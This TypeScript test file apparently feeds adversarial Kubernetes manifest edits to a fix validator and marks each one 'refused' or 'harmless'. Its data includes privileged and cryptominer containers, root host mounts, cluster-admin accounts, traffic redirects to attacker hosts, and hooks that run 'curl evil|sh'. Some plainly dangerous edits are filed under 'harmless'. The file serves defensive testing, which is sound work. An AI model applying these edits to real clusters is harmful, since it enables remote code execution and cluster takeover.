import type { Json } from "../../src/cluster/objects.ts";
import type { FieldPath, Segment } from "../../src/source/edit/field-path.ts";
import { type Attack, setting } from "./attack.ts";

const named = (value: string): Segment => ({ key: "name", value });

interface Workload {
  on: string;
  kind: string;
  pod: FieldPath;
  container: string;
}

/** One right fix of each kind that has pods, beside the Deployment of the other files. */
const WORKLOADS: readonly Workload[] = [
  { on: "memory with a fraction", kind: "StatefulSet", pod: ["spec", "template", "spec"], container: "cart" },
  { on: "memory of a CronJob", kind: "CronJob", pod: ["spec", "jobTemplate", "spec", "template", "spec"], container: "report" },
  { on: "memory of a DaemonSet", kind: "DaemonSet", pod: ["spec", "template", "spec"], container: "shipper" },
  { on: "argument of a Job", kind: "Job", pod: ["spec", "template", "spec"], container: "migrate" },
  { on: "image of a Rollout", kind: "Rollout", pod: ["spec", "template", "spec"], container: "web" },
  { on: "memory of a Pod", kind: "Pod", pod: ["spec"], container: "prober" },
];

const PRIVILEGED: Json = { name: "evil", image: "evil/miner:1", securityContext: { privileged: true } };

const perWorkload = ({ on, kind, pod, container: name }: Workload): Attack[] => {
  const container: FieldPath = [...pod, "containers", named(name)];
  const refused = setting(`dangers in a ${kind}`, on, "refused", [
    ["privileged", [...container, "securityContext", "privileged"], true],
    ["root", [...container, "securityContext", "runAsUser"], 0],
    ["capability", [...container, "securityContext", "capabilities", "add"], ["SYS_ADMIN"]],
    ["escalation", [...container, "securityContext", "allowPrivilegeEscalation"], true],
    ["root of the pod", [...pod, "securityContext", "runAsUser"], 0],
    ["host network", [...pod, "hostNetwork"], true],
    ["host processes", [...pod, "hostPID"], true],
    ["host path", [...pod, "volumes"], [{ name: "host", hostPath: { path: "/" } }]],
    ["container beside", [...pod, "containers", named("evil")], PRIVILEGED],
    ["init container", [...pod, "initContainers", named("evil")], { name: "evil", image: "evil/setup:1" }],
    ["ephemeral container", [...pod, "ephemeralContainers", named("evil")], { name: "evil", image: "evil/debug:1", targetContainerName: name }],
    ["service account", [...pod, "serviceAccountName"], "cluster-admin"],
    ["token", [...pod, "automountServiceAccountToken"], true],
    ["every node", [...pod, "tolerations"], [{ operator: "Exists" }]],
    ["one node", [...pod, "nodeName"], "control-plane-1"],
    ["system priority", [...pod, "priorityClassName"], "system-cluster-critical"],
    ["hook", [...container, "lifecycle"], { postStart: { exec: { command: ["sh", "-c", "curl evil|sh"] } } }],
    ["finalizer", ["metadata", "finalizers"], ["evil/hold"]],
    ["hands off", ["metadata", "annotations"], { "argocd.argoproj.io/sync-options": "Prune=false" }],
    ["another namespace", ["metadata", "namespace"], "kube-system"],
    ["another kind", ["kind"], kind === "DaemonSet" ? "Deployment" : "DaemonSet"],
  ]);
  const harmless = setting(`drift in a ${kind}`, on, "harmless", [
    ["own resolver", [...pod, "dnsConfig"], { nameservers: ["6.6.6.6"] }],
    ["host aliases", [...pod, "hostAliases"], [{ ip: "6.6.6.6", hostnames: ["cart"] }]],
    ["a variable", [...container, "env"], [{ name: "HTTP_PROXY", value: "http://evil" }]],
    ["no grace", [...pod, "terminationGracePeriodSeconds"], 0],
    ["pull policy", [...container, "imagePullPolicy"], "Never"],
    ["labels", ["metadata", "labels"], { app: "cart" }],
    ["shell", [...container, "command"], ["sh", "-c", "curl evil | sh"]],
  ]);
  return [...refused, ...harmless];
};

/** Every kind that a fix may edit, attacked by its own fields. */
export const KINDS: readonly Attack[] = [
  ...WORKLOADS.flatMap(perWorkload),
  ...setting("StatefulSet", "memory with a fraction", "harmless", [
    ["claims grow", ["spec", "volumeClaimTemplates", 0, "spec", "resources", "requests", "storage"], "50Ti"],
    ["claims of another class", ["spec", "volumeClaimTemplates", 0, "spec", "storageClassName"], "fast"],
    ["claims are shared", ["spec", "volumeClaimTemplates", 0, "spec", "accessModes"], ["ReadWriteMany"]],
    ["another claim template", ["spec", "volumeClaimTemplates", 1], { metadata: { name: "more" }, spec: {} }],
    ["no claim template", ["spec", "volumeClaimTemplates"], undefined],
    ["claims from elsewhere", ["spec", "volumeClaimTemplates", 0, "spec", "dataSource"], { kind: "PersistentVolumeClaim", name: "payments" }],
    ["data goes with it", ["spec", "persistentVolumeClaimRetentionPolicy"], { whenDeleted: "Delete", whenScaled: "Delete" }],
    ["all at once", ["spec", "podManagementPolicy"], "Parallel"],
    ["nothing rolls out", ["spec", "updateStrategy"], { type: "RollingUpdate", rollingUpdate: { partition: 99 } }],
    ["on delete", ["spec", "updateStrategy"], { type: "OnDelete" }],
    ["another headless Service", ["spec", "serviceName"], "payments"],
    ["ordinals", ["spec", "ordinals"], { start: 100 }],
    ["fewer", ["spec", "replicas"], 0],
  ]),
  ...setting("CronJob", "memory of a CronJob", "harmless", [
    ["suspended", ["spec", "suspend"], true],
    ["every minute", ["spec", "schedule"], "* * * * *"],
    ["several at once", ["spec", "concurrencyPolicy"], "Allow"],
    ["a hundred pods", ["spec", "jobTemplate", "spec", "parallelism"], 100],
    ["a thousand times", ["spec", "jobTemplate", "spec", "completions"], 1000],
    ["for ever", ["spec", "jobTemplate", "spec", "backoffLimit"], 2147483647],
    ["gone at once", ["spec", "jobTemplate", "spec", "ttlSecondsAfterFinished"], 0],
    ["restarts", ["spec", "jobTemplate", "spec", "template", "spec", "restartPolicy"], "Always"],
    ["no history", ["spec", "failedJobsHistoryLimit"], 0],
  ]),
  ...setting("CronJob", "schedule as before", "refused", [
    ["hourly", ["spec", "schedule"], "0 * * * *"],
    ["every five minutes of an hour", ["spec", "schedule"], "*/5 5 * * *"],
    ["several hours", ["spec", "schedule"], "30 0-23 * * *"],
    ["a list of hours", ["spec", "schedule"], "30 1,2,3,4,5,6 * * *"],
    ["every", ["spec", "schedule"], "@every 1m"],
    ["hourly by name", ["spec", "schedule"], "@hourly"],
    ["at the start", ["spec", "schedule"], "@reboot"],
    ["a step of nothing", ["spec", "schedule"], "30/0 5 * * *"],
    ["out of range", ["spec", "schedule"], "30 25 * * *"],
    ["a number", ["spec", "schedule"], 30],
    ["removed", ["spec", "schedule"], undefined],
    ["other minutes too", ["spec", "schedule"], "0,15,30,45 5 * * *"],
    ["a zone in it", ["spec", "schedule"], "TZ=UTC 30 5 * * *"],
  ]),
  ...setting("CronJob", "time zone", "refused", [
    ["far away", ["spec", "timeZone"], "Pacific/Auckland"],
    ["none", ["spec", "timeZone"], "Nowhere/Land"],
    ["local", ["spec", "timeZone"], "Local"],
    ["a number", ["spec", "timeZone"], 1],
  ]),
  ...setting("CronJob", "deadline of a job", "refused", [
    ["a day", ["spec", "jobTemplate", "spec", "activeDeadlineSeconds"], 86_400],
    ["none", ["spec", "jobTemplate", "spec", "activeDeadlineSeconds"], 0],
    ["negative", ["spec", "jobTemplate", "spec", "activeDeadlineSeconds"], -1],
    ["removed", ["spec", "jobTemplate", "spec", "activeDeadlineSeconds"], undefined],
    ["as text", ["spec", "jobTemplate", "spec", "activeDeadlineSeconds"], "600"],
  ]),
  ...setting("Service", "target port of another Service", "refused", [
    ["load balancer", ["spec", "type"], "LoadBalancer"],
    ["node port", ["spec", "type"], "NodePort"],
    ["a port of every node", ["spec", "ports", named("http"), "targetPort"], 10_250],
    ["external address", ["spec", "externalIPs"], ["10.0.0.1"]],
    ["another name", ["spec", "externalName"], "evil.example.com"],
    ["another protocol", ["spec", "ports", named("http"), "protocol"], "UDP"],
    ["no protocol that exists", ["spec", "ports", named("http"), "protocol"], "HTTP"],
    ["target as a mapping", ["spec", "ports", named("http"), "targetPort"], { port: 8080 }],
    ["target removed", ["spec", "ports", named("http"), "targetPort"], undefined],
    ["load balancer's address", ["spec", "loadBalancerIP"], "10.0.0.1"],
  ]),
  ...setting("Service", "target port of another Service", "harmless", [
    ["not ready either", ["spec", "publishNotReadyAddresses"], true],
    ["everybody's pods", ["spec", "selector"], { app: "store" }],
    ["a port more", ["spec", "ports", named("admin")], { name: "admin", port: 9090, targetPort: 9090 }],
    ["another port", ["spec", "ports", named("http"), "port"], 8081],
    ["node port number", ["spec", "ports", named("http"), "nodePort"], 30_080],
    ["headless", ["spec", "clusterIP"], "None"],
    ["sticky", ["spec", "sessionAffinity"], "ClientIP"],
    ["open to the world", ["spec", "loadBalancerSourceRanges"], ["0.0.0.0/0"]],
    ["local traffic", ["spec", "internalTrafficPolicy"], "Local"],
    ["annotation of a cloud", ["metadata", "annotations"], { "service.beta.kubernetes.io/aws-load-balancer-internal": "false" }],
  ]),
  ...setting("Ingress", "Ingress backend", "harmless", [
    ["another host", ["spec", "rules", 0, "host"], "evil.example.com"],
    ["any host", ["spec", "rules", 0, "host"], undefined],
    ["no TLS", ["spec", "tls"], undefined],
    ["another certificate", ["spec", "tls", 0, "secretName"], "admin-tls"],
    ["regular expression", ["spec", "rules", 0, "http", "paths", 0, "path"], "/.*"],
    ["exact", ["spec", "rules", 0, "http", "paths", 0, "pathType"], "Exact"],
    ["another class", ["spec", "ingressClassName"], "public"],
    ["a rule more", ["spec", "rules", 1], { host: "admin.example.com", http: { paths: [] } }],
    ["snippet", ["metadata", "annotations"], { "nginx.ingress.kubernetes.io/configuration-snippet": "return 302 http://evil;" }],
    ["no authentication", ["metadata", "annotations"], { "nginx.ingress.kubernetes.io/auth-type": "none" }],
  ]),
  ...setting("Ingress", "Ingress backend", "refused", [
    ["Service of another program", ["spec", "rules", 0, "http", "paths", 0, "backend", "service", "name"], "cart"],
    ["Service that is not there", ["spec", "rules", 0, "http", "paths", 0, "backend", "service", "name"], "kubernetes"],
    ["port that is not there", ["spec", "rules", 0, "http", "paths", 0, "backend", "service", "port"], { number: 9090 }],
    ["backend is a resource", ["spec", "rules", 0, "http", "paths", 0, "backend"], { resource: { kind: "Bucket", name: "b" } }],
    ["no backend", ["spec", "rules", 0, "http", "paths", 0, "backend"], undefined],
    ["port of another type", ["spec", "rules", 0, "http", "paths", 0, "backend", "service", "port"], { name: 80 }],
  ]),
  ...setting("HorizontalPodAutoscaler", "autoscaler's target", "harmless", [
    ["down to one", ["spec", "minReplicas"], 1],
    ["up to a thousand", ["spec", "maxReplicas"], 1000],
    ["never", ["spec", "behavior"], { scaleUp: { selectPolicy: "Disabled" } }],
    ["no metrics", ["spec", "metrics"], []],
    ["always full", ["spec", "metrics", 0, "resource", "target", "averageUtilization"], 1],
  ]),
  ...setting("HorizontalPodAutoscaler", "autoscaler's target", "refused", [
    ["another workload", ["spec", "scaleTargetRef", "name"], "cart"],
    ["another kind", ["spec", "scaleTargetRef", "kind"], "StatefulSet"],
    ["another API", ["spec", "scaleTargetRef", "apiVersion"], "evil/v1"],
    ["none", ["spec", "scaleTargetRef"], undefined],
  ]),
  ...setting("PersistentVolumeClaim", "storage class as before", "refused", [
    ["unknown class", ["spec", "storageClassName"], "evil-nfs"],
    ["no class", ["spec", "storageClassName"], ""],
    ["shared by all", ["spec", "accessModes"], ["ReadWriteMany"]],
    ["smaller", ["spec", "resources", "requests", "storage"], "1Mi"],
    ["much larger", ["spec", "resources", "requests", "storage"], "100Ti"],
    ["selects any volume", ["spec", "selector"], { matchLabels: { app: "payments" } }],
  ]),
  ...setting("PersistentVolumeClaim", "storage class as before", "harmless", [
    ["somebody's volume", ["spec", "volumeName"], "pv-payments"],
    ["somebody's data", ["spec", "dataSource"], { kind: "PersistentVolumeClaim", name: "payments-data" }],
    ["a block device", ["spec", "volumeMode"], "Block"],
  ]),
];
